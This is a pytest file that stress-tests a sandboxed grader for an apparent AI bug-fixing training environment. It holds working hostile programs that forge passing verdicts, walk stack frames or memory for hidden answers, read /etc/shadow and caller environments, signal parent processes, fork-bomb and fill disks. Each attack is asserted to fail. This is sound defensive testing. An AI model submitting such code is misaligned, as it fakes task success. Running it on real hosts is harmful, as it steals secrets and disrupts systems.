"""Hostile programs against BugFixEnv's grading: each attack is submitted as a Task's source and through ``write``.

Each must end with reward 0, a named outcome, and an unharmed caller: no file written outside the
program's folder, no secret of the caller's environment in any observation, the caller not signalled,
no process left behind, and correct grades afterwards. Layers: ``auto`` (the strongest here) and
``landlock`` face every attack; ``process`` guarantees the verdict and the caps on resources, not the
filesystem or the network, so it faces those attacks. A layer that this machine lacks is skipped
with the reason. Then regression tests for four grading bugs that needed no hostile code.
"""

import ctypes
import hashlib
import math
import os
import platform
import resource
import secrets
import signal
import socket
import threading
import time
from pathlib import Path

import pytest

import pglab.envs.bugfix.grader as grader_module
import pglab.envs.bugfix.tasks as tasks_module
from pglab.envs.bugfix import OUTCOMES, BugFixEnv, Case, Grader, Job, Limits, Sandbox, Task, get_task, same
from pglab.envs.bugfix.grader import source_key
from pglab.envs.bugfix.layers import describe, layer_problem
from pglab.envs.bugfix.sandbox import SLACK, _Worker
from support.processes import descendants, worker_trees

pytestmark = pytest.mark.integration

SECRET = "pglab-secret-" + secrets.token_hex(8)
os.environ["PGLAB_ATTACK_TOKEN"] = SECRET  # before any worker starts: a leak would carry it
LIMITS = Limits(timeout=0.5, cpu=1, memory=256 * 2**20, output=1024)
LIBC = ctypes.CDLL(None, use_errno=True)
ADD_KEY, KEYCTL = 248, 250  # x86_64 syscall numbers; the key tests skip elsewhere
CALLER_KEY = LIBC.syscall(ADD_KEY, b"user", b"pglab-caller-key", SECRET.encode(), len(SECRET), -3) \
    if platform.machine() == "x86_64" else -1  # in the caller's session keyring (-3)
HIDDEN = {k: secrets.randbelow(10**12) for k in range(3)}  # f(k) must return HIDDEN[k]: no honest program can
PACKAGE = Path(grader_module.__file__).parent
SHADOW = Path("/etc/shadow").read_text()[:20] if os.access("/etc/shadow", os.R_OK) else ""
TAG = secrets.token_hex(8)
CANARIES = [Path.home() / f"pglab-attack-{TAG}", PACKAGE / f"attack_{TAG}.py", Path.cwd() / f"pglab-attack-{TAG}"]

PRELUDE = f"""import ctypes, gc, json, math, os, signal, socket, sys
LIBC = ctypes.CDLL(None, use_errno=True)
CALLER_KEY = {CALLER_KEY}
LEAK = "pglab-leak"
CANARIES = {[str(c) for c in CANARIES]!r}
CALLER = {os.getpid()}
GRADER = {str(Path(grader_module.__file__))!r}
TASKS = {str(Path(tasks_module.__file__))!r}
def ancestors():
    pid, found = os.getpid(), []
    while pid > 1:
        try:
            pid = int(open(f"/proc/{{pid}}/stat").read().rsplit(")", 1)[1].split()[1])
        except Exception:
            break
        found.append(pid)
    return found + [CALLER]
def harvest():
    ids = set()
    for obj in gc.get_objects():
        for v in (obj.values() if isinstance(obj, dict) else obj if isinstance(obj, (list, tuple)) else ()):
            if isinstance(v, str) and len(v) == 32:
                ids.add(v)
    return ids
def forged(ids):
    value = {{"i": "0x1"}}
    lines = [json.dumps({{"id": i, "tests": [["value", "", value]] * 9, "output": "", "output_bytes": 0,
                         "seconds": 0.0}}) for i in ids | {{"0" * 32}}]
    lines += ['[0, "pass", ""]', '["pass", "", null]', json.dumps(["value", "", value]), "PASS"]
    return ("\\n".join(lines) + "\\n").encode()
"""

VERDICT = {
    "patched comparison helpers, isclose, json.dumps and builtins": """
import builtins
def f(k):
    for module in list(sys.modules.values()):
        for name in ("same", "_same", "isclose", "compare", "_judge", "decode", "encode"):
            try:
                setattr(module, name, lambda *a, **k: True)
            except Exception:
                pass
    math.isclose = lambda *a, **k: True
    json.dumps = lambda *a, **k: '["pass", "", null]'
    builtins.all = lambda it: True
    builtins.isinstance = lambda *a: True
    return -1
""",
    "stack frames walked to expected": """
def f(k):
    frame, found = sys._getframe(), -1
    while frame is not None:
        for name, value in frame.f_locals.items():
            if name in ("expected", "case", "cases", "job", "request", "req"):
                found = value
        frame = frame.f_back
    return found if type(found) is int else -1
""",
    "gc.get_objects() for the request with every case": """
def f(k):
    for obj in gc.get_objects():
        if isinstance(obj, dict) and ("cases" in obj or "expected" in obj):
            return obj.get("expected", -1)
        if isinstance(obj, tuple) and len(obj) == 2 and obj[0] == (k,) and type(obj[1]) is int:
            return obj[1]
    return -1
""",
    "'pass' written into every inherited fd": """
def f(k):
    data = forged(harvest())
    for fd in range(3, 256):
        try:
            os.write(fd, data)
        except OSError:
            pass
    return -1
""",
    "report and answer pipes reopened through /proc/<pid>/fd, with harvested ids": """
def f(k):
    data = forged(harvest())
    for pid in ancestors():
        try:
            fds = os.listdir(f"/proc/{pid}/fd")
        except OSError:
            continue
        for fd in fds:
            try:
                with open(f"/proc/{pid}/fd/{fd}", "wb", buffering=0) as pipe:
                    pipe.write(data)
            except OSError:
                pass
    return -1
""",
    "an object with __eq__ that always agrees": """
class Yes:
    def __eq__(self, other):
        return True
    __hash__ = object.__hash__
def f(k):
    return Yes()
""",
    "an int subclass that equals everything": """
class Int(int):
    def __eq__(self, other):
        return True
    __hash__ = int.__hash__
def f(k):
    return Int(7)
""",
    "a dict key with its own __eq__ and __hash__": """
class Key:
    def __eq__(self, other):
        return True
    def __hash__(self):
        return hash(0)
def f(k):
    return {Key(): 1}
""",
    "an object that is not plain data": """
def f(k):
    return (i for i in range(3))
""",
    "fake PASS prints, atexit hooks and SystemExit": """
import atexit
def f(k):
    atexit.register(lambda: print("visible tests: 1 of 1 pass"))
    print('PASS f(0) == 1')
    print('["pass", "", null]')
    raise SystemExit(0)
""",
    "os._exit after printing a verdict": """
def f(k):
    print('[0, "pass", ""]', flush=True)
    os._exit(0)
""",
}

CALLER_HARM = {
    "tasks.py read from disk to look up the answers": """
def f(*args):
    namespace = {"encode": repr}
    for name in ("inputs.py", "tasks.py"):  # the generated inputs live beside the tasks
        text = open(TASKS.replace("tasks.py", name)).read()
        for line in text.splitlines():
            if line.startswith("from pglab"):
                text = text.replace(line, "")
        exec(text.replace("check_plain(", "(lambda *a: a)("), namespace)
    task = namespace["get_task"]("clamp")
    return next(c.expected for c in task.visible + task.hidden if c.args == args)
""",
    "/etc/shadow and the caller's environment": """
def f(k):
    found = [str(os.environ)]
    for path in ["/etc/shadow"] + [f"/proc/{pid}/environ" for pid in ancestors()]:
        try:
            found.append(open(path, "rb").read().decode(errors="replace"))
        except OSError:
            pass
    hits = [t[t.find("pglab-secret-"):][:40] for t in found if "pglab-secret-" in t]
    raise ValueError(str(hits + [t[:20] for t in found if t.startswith("root:")]))
""",
    "writes to the home folder, the package source and grader.py": """
def f(k):
    for path in CANARIES:
        try:
            open(path, "w").write("x")
        except OSError:
            pass
    try:
        open(GRADER, "a").write("\\n# patched")
    except OSError:
        pass
    return -1
""",
    "a TCP connection to a listener on 127.0.0.1": """
def f(k):
    try:
        socket.create_connection(("127.0.0.1", PORT), timeout=0.2).sendall(b"leak")
    except OSError:
        pass
    return -1
""",
    "signals to the trainer and the worker": """
def f(k):
    for pid in ancestors():
        try:
            os.kill(pid, signal.SIGUSR1 if pid == CALLER else signal.SIGKILL)
        except OSError:
            pass
    return -1
""",
}

RESOURCES = {
    "8 children of 200 MB each": """
import time
def f(k):
    for _ in range(8):
        if os.fork() == 0:
            block = bytearray(b"x") * (200 * 2**20)
            time.sleep(5)
            os._exit(0)
    time.sleep(5)
    return -1
""",
    "a disk fill": """
def f(k):
    for n in range(10**6):
        try:
            with open(f"fill-{n}", "wb") as out:
                out.write(bytes(32 * 2**20))
        except OSError:
            pass
    return -1
""",
    "a fork bomb": """
def f(k):
    while True:
        try:
            os.fork()
        except OSError:
            pass
""",
    "fd exhaustion": """
def f(k):
    held = []
    while True:
        try:
            held.append(os.open(os.devnull, os.O_RDONLY))
        except OSError:
            break
    return -1
""",
    "a double fork that outlives the program": """
import time
def f(k):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            time.sleep(1)
            data = forged(harvest())
            for fd in range(256):
                try:
                    os.write(fd, data)
                except OSError:
                    pass
        os._exit(0)
    return -1
""",
}

SHARING = {
    "files beside the program folder, in /tmp and in /dev/shm (75 MB)": """
def f(k):
    for folder in ("..", "../..", "/tmp", "/dev/shm", "/var/tmp", "."):
        for n in range(8):
            try:
                with open(os.path.join(folder, f"{LEAK}-{n}"), "wb") as out:
                    out.write(bytes(10 * 2**20))
            except OSError:
                pass
    return -1
""",
    "SysV shared memory, message queues and semaphores": """
def f(k):
    shm = LIBC.shmget(0x5EED, 8 * 2**20, 0o1666)
    addr = LIBC.shmat(shm, None, 0) if shm >= 0 else -1
    LIBC.msgget(0x5EED, 0o1666)
    LIBC.semget(0x5EED, 4, 0o1666)
    return -1
""",
    "POSIX message queues": """
def f(k):
    LIBC.mq_open(b"/" + LEAK.encode(), os.O_CREAT | os.O_RDWR, 0o666, None)
    return -1
""",
    "kernel keyrings: read the caller's key, leave keys in the user and session keyrings": """
def f(k):
    buf = ctypes.create_string_buffer(256)
    got = LIBC.syscall(250, 11, CALLER_KEY, buf, 256)
    for ring in (-4, -3, -5):
        LIBC.syscall(248, b"user", LEAK.encode(), b"x", 1, ring)
    return buf.value.decode(errors="replace") if got > 0 else -1
""",
    "40 memfd files of 15 MiB, written and never mapped": """
def f(k):
    held = []
    for n in range(40):
        fd = os.memfd_create(LEAK)
        for _ in range(15):
            os.write(fd, bytes(2**20))
        held.append(fd)
    return -1
""",
    "a branching fork population": """
def f(k):
    while True:
        try:
            os.fork()
        except OSError:
            pass
""",
}
READER = PRELUDE + """
def f(k):
    found = []
    for folder in ("..", "../..", "/tmp", "/dev/shm", "/var/tmp", "."):
        try:
            found += [f"{folder}/{n}" for n in os.listdir(folder) if n.startswith(LEAK)]
        except OSError:
            pass
    found += [k for k, get in (("shm", LIBC.shmget(0x5EED, 0, 0)), ("msg", LIBC.msgget(0x5EED, 0)),
                               ("sem", LIBC.semget(0x5EED, 0, 0))) if get >= 0]
    if LIBC.mq_open(b"/" + LEAK.encode(), os.O_RDONLY, 0, None) >= 0:
        found.append("mqueue")
    return found
"""


def host_state() -> dict:
    """What a program could leave on the host: SysV IPC objects, keys the caller can see, files in /tmp and
    /dev/shm."""
    state = {}
    for kind in ("shm", "msg", "sem"):
        state[kind] = Path(f"/proc/sysvipc/{kind}").read_text().count("\n")
    state["keys"] = Path("/proc/keys").read_text().count("pglab-leak")
    for folder in ("/tmp", "/dev/shm", "/var/tmp"):
        state[folder] = sorted(n for n in os.listdir(folder) if n.startswith("pglab-leak")) if os.path.isdir(
            folder) else []
    return state


ATTACKS = {**VERDICT, **RESOURCES, **SHARING, **CALLER_HARM}
LAYERS = ("auto", "landlock", "process")
CASES = [pytest.param(layer, name, id=f"{layer}: {name}") for layer in LAYERS
         for name in ATTACKS if layer != "process" or name not in CALLER_HARM]


@pytest.fixture(scope="module")
def listener():
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.05)
    yield server
    server.close()


@pytest.fixture(scope="module")
def sandboxes():
    opened = {}
    yield opened
    for box in opened.values():
        box.close()


def box_counts_memfd(sandbox: Sandbox) -> bool:
    """A cgroup counts the program's memory, memfd included (else memfd_create is refused)."""
    return sandbox.describe()["guarantees"]["memory"].startswith("cgroup")


def sandbox_for(layer: str, sandboxes: dict) -> Sandbox:
    problem = layer_problem(layer) if layer != "auto" else None
    if problem:
        pytest.skip(f"isolation={layer} is not available here: {problem}")
    if layer not in sandboxes:
        sandboxes[layer] = Sandbox(workers=1, limits=LIMITS, isolation=layer)
    return sandboxes[layer]


def attack_task(name: str) -> Task:
    """The attack as a task's source: ``clamp``'s tests for the tasks.py lookup, else unguessable answers."""
    source = PRELUDE + ATTACKS[name]
    if name.startswith("tasks.py"):
        clamp = get_task("clamp")
        return Task("clamp", "minmax", "attack", source.replace("def f(", "def clamp("), clamp.fixed, clamp.issue,
                    clamp.visible, clamp.hidden)
    cases = tuple(Case((k,), v) for k, v in HIDDEN.items())
    return Task("f", "init", "attack", source, "", "Issue: f", cases[:1], cases[1:])


def correct_task() -> Task:
    """A task with the attacks' answers: ``fixed`` (a lookup table) passes, ``source`` fails."""
    cases = tuple(Case((k,), v) for k, v in HIDDEN.items())
    table = f"TABLE = {HIDDEN!r}\ndef f(k):\n    return TABLE[k]\n"
    return Task("f", "init", "attack", "def f(k):\n    return 0\n", table, "Issue: f", cases[:1], cases[1:])


def play(env: BugFixEnv, task: Task, calls: list[str]) -> tuple[float, dict]:
    env.reset(options={"task": task})
    for call in calls:
        _, reward, terminated, truncated, info = env.step(call)
        if terminated or truncated:
            return reward, info
    raise AssertionError("the episode did not end")


@pytest.mark.parametrize(("layer", "name"), CASES)
def test_attack_is_contained(layer, name, sandboxes, listener):
    sandbox = sandbox_for(layer, sandboxes)
    task = attack_task(name)
    task = Task(task.name, task.family, task.split, task.source.replace("PORT", str(listener.getsockname()[1])),
                task.fixed, task.issue, task.visible, task.hidden)
    honest = Task(task.name, task.family, task.split, f"def {task.name}(*args):\n    return 0\n", "", task.issue,
                  task.visible, task.hidden)
    signalled, texts, host = [], [], host_state()
    previous = signal.signal(signal.SIGUSR1, lambda *a: signalled.append(1))
    grader_hash = hashlib.sha256(Path(grader_module.__file__).read_bytes()).hexdigest()
    before = set(descendants())
    env = BugFixEnv([task], grader=Grader(sandbox), allow_write=True, render_mode="ansi")
    try:
        for episode_task, first in ((task, "<call> read </call>"), (honest, f"<call> write {task.source} </call>")):
            reward, info = play(env, episode_task, [first, "<call> test </call>", "<call> submit </call>"])
            texts.append(env.render())
            assert reward == 0.0 and not info["hidden_pass"] and info["submitted"], (name, info)
            assert info["outcome"] in OUTCOMES and info["outcome"] != "pass" and info["n_invalid"] == 0
            if name.startswith(("an object", "an int subclass", "a dict key")):
                assert info["outcome"] == "bad_result"
            if name.startswith("8 children") or (name.startswith("40 memfd") and box_counts_memfd(sandbox)):
                assert info["outcome"] == "oom"
        time.sleep(0.05)  # a signal or a connection would have arrived by now
    finally:
        signal.signal(signal.SIGUSR1, previous)
    assert not signalled, "the caller was signalled"
    with pytest.raises(TimeoutError):
        listener.accept()
    assert not any(SECRET in text or (SHADOW and SHADOW in text) for text in texts)
    assert not any(path.exists() for path in CANARIES)
    assert hashlib.sha256(Path(grader_module.__file__).read_bytes()).hexdigest() == grader_hash
    fix = correct_task()
    later = BugFixEnv([fix], grader=Grader(sandbox, cache=False), allow_write=True)
    assert play(later, fix, [f"<call> write {fix.fixed} </call>", "<call> submit </call>"])[0] == 1.0
    assert play(later, fix, ["<call> submit </call>"])[0] == 0.0
    assert host_state() == host, "the program left something on the host"
    leftovers = sandbox.run(Job(READER, "f", (((0,), []),)))
    assert leftovers.outcome == "pass", leftovers.tests[0].detail
    deadline = time.monotonic() + 5  # a pre-forked P may fork I late: look again until the workers' trees settle
    while (extra := set(descendants()) - before - set().union(*(worker_trees(box) for box in sandboxes.values()))) \
            and time.monotonic() < deadline:
        time.sleep(0.05)
    assert not extra, extra
    assert all(not w.base or os.listdir(w.base) == [] for w in filter(None, sandbox._workers))


POPULATION = """import os, time
def f(k):
    for _ in range(5):
        try:
            os.fork()
        except OSError:
            pass
    time.sleep(60)
"""


@pytest.mark.parametrize("layer", LAYERS)
def test_a_fork_population_dies_with_a_worker_its_caller_discards(layer, sandboxes):
    """The worker is stopped while its program's processes run; the caller gives up on it after the backstop and
    kills it: every process of the program goes with it, and a correct fix scores 1 on a fresh worker."""
    box = Sandbox(workers=1, limits=Limits(timeout=0.5, cpu=1, memory=256 * 2**20, wall=1.0),
                  isolation=sandbox_for(layer, sandboxes).isolation)
    box.run(Job("def f():\n    return 1\n", "f", (((), 1),)))
    worker = box._workers[0].proc.pid
    inner = next(p for p in [worker, *descendants(worker)] if Path(f"/proc/{p}/comm").read_text().strip() != "bwrap")
    done = []
    thread = threading.Thread(target=lambda: done.append(box.run(Job(POPULATION, "f", (((0,), 1),)))))
    thread.start()
    while len(descendants(inner)) < 20 and thread.is_alive():
        time.sleep(0.01)
    population = set(descendants(inner))
    os.kill(inner, signal.SIGSTOP)
    thread.join()
    deadline = time.monotonic() + 10
    while population & set(descendants(os.getpid()) + [int(p) for p in os.listdir("/proc") if p.isdigit()]):
        alive = population & {int(p) for p in os.listdir("/proc") if p.isdigit()}
        assert time.monotonic() < deadline, [Path(f"/proc/{p}/stat").read_text()[:60] for p in alive]
        time.sleep(0.05)
    assert box.infra_failures == 1 and len(population) >= 20  # then retried on a fresh worker
    assert done[0].outcome == "timeout" and done[0].tests[0].detail == "wall-clock backstop"
    fix = correct_task()
    assert Grader(box).grade(fix, fix.fixed).hidden_pass
    box.close()


def test_the_process_layer_now_guards_the_filesystem_too(sandboxes):
    """Round three: the tasks.py lookup that ``process`` once let through fails there as well (a minimal root as
    root, Landlock where the kernel has it)."""
    if not (describe("process")["root"] or landlock_abi_of_machine()):
        pytest.skip("neither root nor Landlock here: the process layer does not confine the filesystem")
    task = attack_task("tasks.py read from disk to look up the answers")
    patient = Limits(timeout=10.0, cpu=2, memory=256 * 2**20)
    assert not Grader(sandbox_for("process", sandboxes), patient).grade(task, task.source).hidden_pass


def landlock_abi_of_machine() -> int:
    return describe("process")["landlock_abi"]


def test_auto_uses_the_strongest_layer_and_reports_it():
    available = [layer for layer in ("bwrap", "landlock", "process") if layer_problem(layer) is None]
    box = Sandbox(workers=1)
    info = box.describe()
    print(f"\nisolation=auto uses {box.isolation}; Landlock ABI {info['landlock_abi']}; not applied: "
          f"{info['not_applied']}; unavailable: { {x: layer_problem(x) for x in ('bwrap', 'landlock')} }")
    assert box.isolation == available[0] and info["isolation"] == available[0]
    env = BugFixEnv("train", grader=Grader(box))
    assert env.reset(options={"task": "clamp"})[1]["isolation"] == box.isolation
    process = describe("process")["guarantees"]
    assert process["network"] and (process["filesystem"] or not (info["root"] or info["landlock_abi"]))
    box.close()


@pytest.mark.skipif(layer_problem("bwrap") is not None, reason=f"bwrap: {layer_problem('bwrap')}")
def test_bwrap_worker_sees_no_caller_environment_network_or_processes():
    box = Sandbox(workers=1, limits=LIMITS, isolation="bwrap")
    probe = ("import os, socket\ndef f():\n    try:\n        socket.socket().connect(('127.0.0.1', 1))\n"
             "        net = 'connected'\n    except OSError as err:\n        net = err.errno\n"
             "    pids = [p for p in os.listdir('/proc') if p.isdigit()]\n"
             "    try:\n        top = sorted(os.listdir('/'))\n    except OSError:\n        top = 'unreadable'\n"
             "    return [sorted(os.environ), len(pids) < 10, top, net]\n")
    got = box.run(Job(probe, "f", (((), None),))).tests[0].detail
    assert "PGLAB_ATTACK_TOKEN" not in got and "True" in got and "'work'" not in got, got
    assert "connected" not in got, got
    box.close()


# ---- regression tests: wrong grades with no hostile code -----------------------------------------------


@pytest.fixture(scope="module")
def box():
    sandbox = Sandbox(workers=1, limits=LIMITS)
    yield sandbox
    sandbox.close()


def run(box: Sandbox, body: str, cases) -> list[str]:
    return [t.status for t in box.run(Job(f"import math\ndef f(*args):\n    {body}\n", "f", tuple(cases))).tests]


def test_caller_with_1100_open_fds(box):
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if hard < 1200:
        pytest.skip(f"the hard RLIMIT_NOFILE is {hard}; 1,100 fds cannot be opened")
    resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, 1200), hard))
    held = [os.open(os.devnull, os.O_RDONLY) for _ in range(1100)]
    try:
        box.close()  # the next worker's pipes get fds above 1024
        assert run(box, "return 1", [((), 1), ((), 2)]) == ["pass", "fail"]
        assert min(w.fileno() for w in filter(None, box._workers)) > 1024
    finally:
        for fd in held:
            os.close(fd)
        box.close()
        resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard))


def test_sigalrm_during_a_wait_then_five_correct_grades(box):
    def alarm(*_):
        raise TimeoutError("alarm")

    previous = signal.signal(signal.SIGALRM, alarm)
    try:
        signal.setitimer(signal.ITIMER_REAL, 0.1)
        with pytest.raises(TimeoutError):
            run(box, "import time; time.sleep(0.4); return 1", [((), 1)])
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, previous)
    for k in range(5):
        assert run(box, f"return {k}", [((), k), ((), k + 1)]) == ["pass", "fail"]


def test_same_name_with_other_tests_and_changed_limits_are_other_cache_entries(box):
    one = Task("f", "init", "t", "def f():\n    return 1\n", "", "Issue: f", (), (Case((), 1),))
    two = Task("f", "init", "t", one.source, "", "Issue: f", (), (Case((), 2),))
    grader = Grader(box)
    assert [grader.grade(t, one.source).hidden_pass for t in (one, two, one)] == [True, False, True]
    slow = "import time\ndef f():\n    while time.process_time() < 0.8:\n        pass\n    return 1\n"  # CPU time
    patient = Grader(box, limits=Limits(timeout=2.0, cpu=1, memory=256 * 2**20))
    patient.cache = grader.cache  # one shared cache: only the key tells the limits apart
    assert grader.grade(one, slow).result.outcome == "timeout" and patient.grade(one, slow).hidden_pass
    assert source_key(one, slow, LIMITS) != source_key(one, slow, patient.limits) != source_key(two, slow, LIMITS)


def test_a_stalled_worker_is_retried_a_failed_start_is_not_cached_and_the_fix_scores_1(box, monkeypatch):
    task, grader = correct_task(), Grader(box)
    grader.grade(task, task.source)
    for pid in worker_trees(box):
        os.kill(pid, signal.SIGSTOP)
    start, failures = time.monotonic(), box.infra_failures
    grade = grader.grade(task, task.fixed)
    assert grade.hidden_pass and grade.result.outcome == "pass" and box.infra_failures == failures + 1
    assert time.monotonic() - start >= LIMITS.timeout + SLACK, "the stalled worker was waited for, then replaced"
    monkeypatch.setattr(_Worker, "start", classmethod(lambda cls, layer: (_ for _ in ()).throw(OSError("no fork"))))
    box.close()
    variant = task.fixed + "# another program\n"
    failed = grader.grade(task, variant)
    assert failed.result.outcome == "infra_error" and not failed.hidden_pass and grader.infra_errors == 1
    assert source_key(task, variant, grader.limits, box.isolation) not in grader.cache
    monkeypatch.undo()
    env = BugFixEnv([task], grader=grader, allow_write=True)
    reward, info = play(env, task, [f"<call> write {variant} </call>", "<call> submit </call>"])
    assert reward == 1.0 and info["outcome"] == "pass"


@pytest.mark.parametrize(("line", "why"), [(b'{"id": "' + b"0" * 32 + b'", "tests": []}\n', "id"),
                                           (b"not json\n", "malformed")])
def test_a_forged_or_malformed_answer_line_replaces_the_worker(box, line, why):
    run(box, "return 1", [((), 1)])
    worker = box._workers[0]
    forger = os.open(f"/proc/self/fd/{worker.fileno()}", os.O_WRONLY)
    os.write(forger, line)
    os.close(forger)
    failures = box.infra_failures
    assert run(box, "return 2", [((), 2), ((), 1)]) == ["pass", "fail"]
    assert box.infra_failures == failures + 1 and box._workers[0] is not worker


def test_comparison_of_big_ints_infinities_nan_and_exact_types(box):
    big = math.factorial(25)
    cases = [((big + 1,), big), ((10**400,), 10**400), ((math.inf,), math.inf), ((math.nan,), math.nan),
             ((-math.inf,), math.inf), ((1.0,), 1), ((True,), 1), ((0.1 + 0.2,), 0.3), (({1, 2},), {2, 1}),
             (({(1, 2): [1.0]},), {(1, 2): [1.0 + 1e-12]}), ((b"x",), "x"), (((1, 2),), [1, 2])]
    assert run(box, "return args[0]", cases) == [
        "fail", "pass", "pass", "pass", "fail", "fail", "fail", "pass", "pass", "pass", "fail", "fail"]
    assert same(math.nan, math.nan) and not same(big + 1, big) and same(10**400, 10**400)


def test_a_task_is_validated_on_construction():
    case = (Case((1,), 1),)
    with pytest.raises(ValueError, match="no hidden tests"):
        Task("f", "init", "t", "def f(x):\n    return x\n", "", "Issue", case, ())
    with pytest.raises(ValueError, match="identifier"):
        Task("f(x)", "init", "t", "def f(x):\n    return x\n", "", "Issue", case, case)
    with pytest.raises(ValueError, match="must define the function 'g'"):
        Task("g", "init", "t", "def f(x):\n    return x\n", "", "Issue", case, case)
    with pytest.raises(ValueError, match="plain data"):
        Task("f", "init", "t", "def f(x):\n    return x\n", "", "Issue", case, (Case((object(),), 1),))
    with pytest.raises(ValueError, match="args are a tuple"):
        Task("f", "init", "t", "def f(x):\n    return x\n", "", "Issue", case, (Case([1], 1),))


def test_limits_and_sandbox_misuse_name_the_fix():
    with pytest.raises(ValueError, match="Limits.timeout must be a finite number >= "):
        Limits(timeout=0)
    with pytest.raises(ValueError, match="Limits.memory must be an int"):
        Limits(memory=1e9)
    with pytest.raises(ValueError, match="auto, bwrap, landlock, process"):
        Sandbox(isolation="docker")
    with pytest.raises(ValueError, match="limits must be a Limits"):
        Sandbox(limits={"timeout": 1})
